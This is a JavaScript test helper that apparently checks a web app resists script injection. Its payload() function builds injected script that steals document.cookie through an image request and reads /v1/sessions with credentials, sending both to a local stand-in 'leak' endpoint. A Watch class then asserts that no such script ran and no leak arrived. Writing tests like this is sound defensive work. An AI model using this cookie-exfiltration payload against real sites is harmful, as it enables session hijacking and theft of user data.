// Notices an attack that works: script of a session that runs in a page, and requests that it should not be able to send.

import assert from "node:assert/strict";

import { isOfPage } from "./browser.mjs";

/** What every payload writes to the browser's console, and the name that it sets in the windows that it reaches. */
export const MARK = "attacked";

/** Script that marks each window that it reaches, and sends the cookie and the sessions to the foreign site. */
export function payload(site) {
  const leak = `http://127.0.0.1:${site.port}/leak`;
  return [
    `console.log('${MARK}')`,
    `for (const place of [self, parent, top]) try { place.${MARK} = true } catch {}`,
    `try { new Image().src = '${leak}?cookie=' + encodeURIComponent(document.cookie) } catch {}`,
    `fetch('/v1/sessions', { credentials: 'include' }).then((reply) => reply.text()).then((text) => fetch('${leak}?sessions=' + text.length), () => 0)`,
  ].join(";");
}

/** Watches a context from now on. */
export class Watch {
  #context;
  #site;
  #seen = [];

  constructor(context, site) {
    this.#context = context;
    this.#site = site;
    site.asked.length = 0;
    context.on("dialog", (dialog) => {
      this.#seen.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    // Scripts of frames write here too.
    context.on("console", (message) => {
      if (message.text() === MARK) this.#seen.push(`script has run in ${message.location().url}`);
    });
    context.on("response", (reply) => {
      const place = new URL(reply.url()).pathname;
      const ofFrame = !context.pages().some((page) => isOfPage(page, reply));
      if (ofFrame && place.startsWith("/v1/") && reply.ok()) this.#seen.push(`a frame reads ${place}`);
    });
  }

  /** Fails if anything of an attack has worked. The pages must be where the test has left them. */
  async nothing(what, addresses) {
    const pages = this.#context.pages();
    assert.deepEqual(pages.map((page) => page.url()), addresses, `${what}: pages`);
    for (const page of pages) {
      const marked = await page.evaluate((name) => name in self, MARK);
      assert.equal(marked, false, `${what}: script has run in ${page.url()}`);
    }
    assert.deepEqual(this.#seen, [], what);
    assert.deepEqual(this.#site.leaks(), [], `${what}: the foreign site was reached`);
  }
}

/** Waits long enough for a script, a refresh and a request to do their work. */
export async function settle(page) {
  await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
}
